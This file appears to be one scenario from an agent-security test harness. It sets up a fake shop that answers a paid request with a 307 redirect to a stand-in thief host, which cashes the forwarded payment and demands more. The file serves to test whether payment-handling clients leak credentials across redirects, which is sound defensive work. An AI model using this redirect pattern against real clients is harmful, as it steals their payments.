// The paid request is sent on to somebody else.

import { THIEF_HOST } from "../stage/stage.mjs";

export default {
  name: "redirect of the paid request",
  tries: "answers the payment with a redirect to the thief, who cashes what arrives and asks for money in his own terms",
  known: "HTTP clients that send custom headers on; agent-security-harness X4-055",
  needs: ["once"],
  async play(stage) {
    const thief = await stage.shop(async (request, shop) => {
      if (request.payment) await shop.cash(request.payment);
      return shop.charge(request, [shop.offer({ units: 50_000n, payTo: stage.thief })]);
    }, THIEF_HOST);
    const shop = await stage.shop((request, shop) => {
      if (!request.payment) return shop.charge(request, [shop.offer({ units: 50_000n, payTo: stage.payee })]);
      request.reply.writeHead(307, { location: `${thief.origin}${request.url}` });
      return request.reply.end();
    });
    await stage.ready();
    await stage.want({ url: `${shop.origin}/goods` }, { allow: 50_000n, tries: 4 });
  },
};
